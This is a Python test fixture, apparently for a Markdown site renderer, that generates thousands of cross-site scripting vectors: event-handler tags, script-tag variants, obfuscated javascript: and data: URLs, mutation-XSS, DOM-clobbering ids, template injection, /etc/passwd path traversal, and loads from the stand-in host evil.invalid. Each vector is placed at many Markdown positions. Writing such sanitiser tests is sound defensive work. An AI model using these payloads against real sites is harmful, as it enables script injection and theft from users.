"""Hostile strings: vectors of several families, and the places of a Markdown text into which each is put.

`CALL` is what every vector tries to run: a page that counts calls in `ran` sees it. Nothing here names a real host:
`evil.invalid` cannot exist.
"""

from __future__ import annotations

from collections.abc import Iterator

CALL = "ran.push(1)"
HOST = "evil.invalid"
EVENTS = (
    "onerror onload onclick onfocus onmouseover ontoggle onanimationstart onpointerover onbegin onstart onwheel"
    " oncopy onkeydown onpageshow onhashchange onbeforeunload oncontentvisibilityautostatechange"
).split()
TAGS = (
    "img svg body video audio iframe object embed input details marquee select textarea button a div span p table td"
    " math form keygen isindex frameset style link meta base source track picture template slot dialog label mark"
).split()
SCHEMES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java&#9;script:{CALL}", f"&#106;avascript:{CALL}",
    f"javascript&colon;{CALL}", f"&#x6A;&#x61;vascript:{CALL}", f"\x01javascript:{CALL}", f"&#1;javascript:{CALL}",
    f" javascript:{CALL}", f"javascript://%0a{CALL}", f"javascript:/*--></title></style></textarea></script>*/{CALL}",
    f"vbscript:{CALL}", f"data:text/html,<script>parent.{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5yYW4ucHVzaCgxKTwvc2NyaXB0Pg==",
    f"//{HOST}/x", f"\\\\{HOST}/x", f"/\\{HOST}/x", f"/\t/{HOST}/x", f"https:{HOST}/x", f"http:\\\\{HOST}/x", "blob:x", "file:///etc/passwd",
    f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}", f"\u200bjavascript:{CALL}", f"java\u0000script:{CALL}", f"jav&Tab;ascript:{CALL}",
    "javascript:window['ran'].push(1)", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"https://a@{HOST}/x", f"http://{HOST}/x.js", "../../../../../../etc/passwd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/x", "..\\..\\..\\x",
)  # fmt: skip
IDS = (
    "__search __drawer __toc __palette_0 __config __md_scope __md_get document$ location$ alert$ ran fetch body title"
    " defaultView getElementById constructor __proto__ toString search-data"
).split()


def _events() -> Iterator[str]:
    for tag in TAGS:
        for event in EVENTS[:9]:
            yield f'<{tag} src=x {event}="{CALL}" autofocus tabindex=0>'
    for event in EVENTS:
        for before in ("/", "\t", "\n", "\x0c", ' x="\'" ', "//"):
            for quote in ('"', "'", "", "`"):
                yield f"<img{before if before.strip() or before != ' ' else ' '} src=x{before if before in '/ //' else ' '}{event}={quote}{CALL}{quote}>"


def _scripts() -> Iterator[str]:
    yield from (
        f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script/x>{CALL}</script>", f"<script\n>{CALL}</script\n>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script src=//{HOST}/x.js></script>", f"<script src=data:,{CALL}></script>",
        f"<script type=module>{CALL}</script>", f"<svg><script>{CALL}</script></svg>", f"<svg><script href=data:,{CALL} /></svg>",
        f"<math><script>{CALL}</script></math>", f"<<script>{CALL}//<</script>", f"<script>{CALL}", f"<script x>{CALL}</script y>",
        f"</script><script>{CALL}</script>", f"<script async defer src='//{HOST}'></script>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
        f"<template><script>{CALL}</script></template>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    )  # fmt: skip


def _links() -> Iterator[str]:
    frames = (
        "[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x][r]\n\n[r]: {0}\n\n", '<a href="{0}">x</a>', "<a href='{0}'>x</a>",
        '<area href="{0}">', '<form action="{0}"><button>x</button></form>', '<button formaction="{0}">x</button>',
        '<iframe src="{0}"></iframe>', '<object data="{0}"></object>', '<embed src="{0}">', '<img src="{0}">',
        '<img srcset="{0} 1x">', '<svg><a xlink:href="{0}"><text>x</text></a></svg>', '<svg><use href="{0}"/></svg>',
        '<math href="{0}">x</math>', '<base href="{0}">', '<meta http-equiv="refresh" content="0;url={0}">',
        '<link rel="stylesheet" href="{0}">', '<video poster="{0}"></video>', '<input type="image" src="{0}">',
        '<div style="background:url({0})">x</div>', '<table background="{0}"><tr><td>x</table>', '<a ping="{0}" href="a.html">x</a>',
        '[x](a.html){{: href="{0}" }}', '![x](a.png){{: src="{0}" }}', '<blockquote cite="{0}">x</blockquote>', '<iframe srcdoc="{0}"></iframe>',
    )  # fmt: skip
    for scheme in SCHEMES:
        for frame in frames:
            yield frame.format(scheme)


def _mutations() -> Iterator[str]:
    bad = f"<img src=x onerror={CALL}>"
    yield from (
        f"<math><mtext><table><mglyph><style><!--</style>{bad}", f"<svg></p><style><a id=\"</style>{bad}\">",
        f"<form><math><mtext></form><form><mglyph><style></math>{bad}", f"<noscript><style></noscript>{bad}</style>",
        f"<!--><{bad[1:]}-->", f"<!--x--!>{bad}<!-- -->", f"<![CDATA[>{bad}]]>", f"<?php >{bad} ?>", f"<% {bad} %>", f"<!{bad}>",
        f"<title>{bad}</title>", f"<title><a title=\"</title>{bad}\"></title>", f"<textarea></textarea>{bad}", f"<textarea><a title=\"</textarea>{bad}\">",
        f"<xmp></xmp>{bad}", f"<xmp><p title=\"</xmp>{bad}\">", f"<plaintext>{bad}", f"<noembed></noembed>{bad}", f"<noframes><p title=\"</noframes>{bad}\">",
        f"<svg><desc><![CDATA[</desc><script>{CALL}</script>]]></svg>", f"<svg><foreignObject>{bad}</foreignObject></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={CALL}>",
        f"<math><annotation-xml encoding='text/html'>{bad}</annotation-xml></math>", f"<select><style></select>{bad}</style></select>",
        f"<table><td><svg><style><b></style>{bad}</table>", f"<a title='`{bad}`'>x</a>", f"<p/{bad}", f"<img src='x'onerror={CALL}>", f"<img src=x onerror={CALL}//",
        f"<img src=`x`onerror={CALL}>", f"<img \"\"\"><script>{CALL}</script>\">", "<IMG SRC=x ONERROR=\"&#114;an.push(1)\">", f"<p title=\"&quot;>{bad}\">x</p>",
        f"<a href=\"x\" title='\" onclick=\"{CALL}'>x</a>", f"<details open ontoggle={CALL}>x</details>", f"<style>@import '//{HOST}/x.css';</style>",
        f"<style>*{{background:url(//{HOST}/b)}}</style>", f"<p style=\"x:expression({CALL})\">x</p>", "<p style='position:fixed;inset:0'>x</p>",
        f"<link rel=preload as=image href=//{HOST}/p>", f"<link rel=dns-prefetch href=//{HOST}>", f"<video><source src=//{HOST}/v onerror={CALL}></video>",
        f"<audio src=//{HOST}/a autoplay></audio>", f"<picture><source srcset=//{HOST}/s><img src=x></picture>", "<base target=_blank>",
        f"<form id=x></form><button form=x formaction=javascript:{CALL}>x</button>", "<input name=attributes><input type=password name=p>", "<textarea name=x>x</textarea>",
        "<select><option>x</select>", f"<object type=text/html data=//{HOST}/o></object>", "<applet code=x></applet>", f"<layer src=//{HOST}></layer>",
        f"<bgsound src=//{HOST}/b>", f"<body background=//{HOST}/b onload={CALL}>", f"<html onclick={CALL}>", f"<frameset onload={CALL}>", "<portal src=//evil.invalid></portal>",
        f"<dialog open>{bad}</dialog>", f"<p hidden popover id=x onbeforetoggle={CALL}>x</p>", f"<x onclick={CALL}>x</x>", f"<custom-element onclick={CALL}>x</custom-element>",
        "{{ 7*7 }} {% raw %} {{ config.SECRET }}", "${ran.push(1)}", "#{ran.push(1)}", "<%= 1 %>", "--8<-- \"/etc/passwd\"", f"[TOC]{bad}",
    )  # fmt: skip


def _attribute_lists() -> Iterator[str]:
    for attribute in (f"onclick=\"{CALL}\"", f"onmouseover={CALL}", "style=\"position:fixed\"", "target=_top", f"action=//{HOST}", "class=md-search", "name=cookie",
                      "contenteditable=true", "accesskey=x", "slot=x", "is=x", "srcdoc=x", "form=x", "data-md-component=search"):  # fmt: skip
        yield f"## x {{: {attribute} }}"
        yield f"x **y**{{: {attribute} }}"
        yield f"![x](a.png){{: {attribute} }}"
        yield f"[x](a.html){{: {attribute} }}"
        yield f"``` {{.py {attribute} }}\nx\n```\n"
        yield f"- x\n{{: {attribute} }}"
        yield f"<div markdown {attribute}>\n**x**\n</div>"


def _ids() -> Iterator[str]:
    for name in IDS:
        yield f'<p id="{name}">x</p>'
        yield f"## x {{: #{name} }}"
        yield f'<a name="{name}">x</a>'
        yield f'<img name="{name}" id="{name}" src="a.png">'
        yield f'<form name="{name}"><input name="{name}"></form>'
        yield f'<label for="{name}">x</label><input id="{name}" type="checkbox">'


def _titles() -> Iterator[str]:
    for bad in (
        f"<img src=x onerror={CALL}>",
        f'\\"><script>{CALL}</script>',
        f"'\"><svg/onload={CALL}>",
        f"javascript:{CALL}",
    ):
        yield f'!!! note "{bad}"\n    x\n'
        yield f'??? "{bad}" "{bad}"\n    x\n'
        yield f"!!! {bad}\n    x\n"
        yield f'=== "{bad}"\n\n    x\n'
        yield f"*[汉字]: {bad}\n\n汉字\n"
        yield f"x[^1]\n\n[^1]: {bad}\n"
        yield f"x[^{bad}]\n\n[^{bad}]: y\n"
        yield f"```{bad}\nx\n```\n"
        yield f'```py title="{bad}"\nx\n```\n'
        yield f'[x](a.html "{bad}")'
        yield f'![{bad}](a.png "{bad}")'
        yield f"[{bad}](a.html)"
        yield f"- [ ] {bad}"
        yield f"词\n:   {bad}\n"
        yield f"| {bad} | b |\n|---|---|\n| {bad} | c |\n"
        yield f"# {bad}"
        yield f"`{bad}`"
        yield f"=={bad}== ~~{bad}~~ ^{bad}^"


FAMILIES = {
    "events": _events, "scripts": _scripts, "links": _links, "mutations": _mutations, "attributes": _attribute_lists,
    "ids": _ids, "titles": _titles,
}  # fmt: skip
POSITIONS = (
    "{0}", "## {0}", "汉字{0}汉字", "- 一\n- {0}\n", "> {0}\n", "| a | b |\n|---|---|\n| {0} | x |\n", '!!! note "x"\n    {0}\n', '=== "x"\n\n    {0}\n',
    "<div markdown>\n{0}\n</div>\n", "**{0}**", "x[^9]\n\n[^9]: {0}\n", "<p>{0}", "<table><tr><td>{0}", "<!-- x -->{0}",
)  # fmt: skip


def vectors() -> tuple[tuple[str, str], ...]:
    """(family, hostile string), each string once, in a fixed order."""
    seen: dict[str, str] = {}
    for family, make in FAMILIES.items():
        for vector in make():
            seen.setdefault(vector, family)
    return tuple((family, vector) for vector, family in seen.items())


def everywhere() -> Iterator[tuple[str, str]]:
    """(family, Markdown) of every vector in every position."""
    for family, vector in vectors():
        for position in POSITIONS:
            yield family, position.replace("{0}", vector)
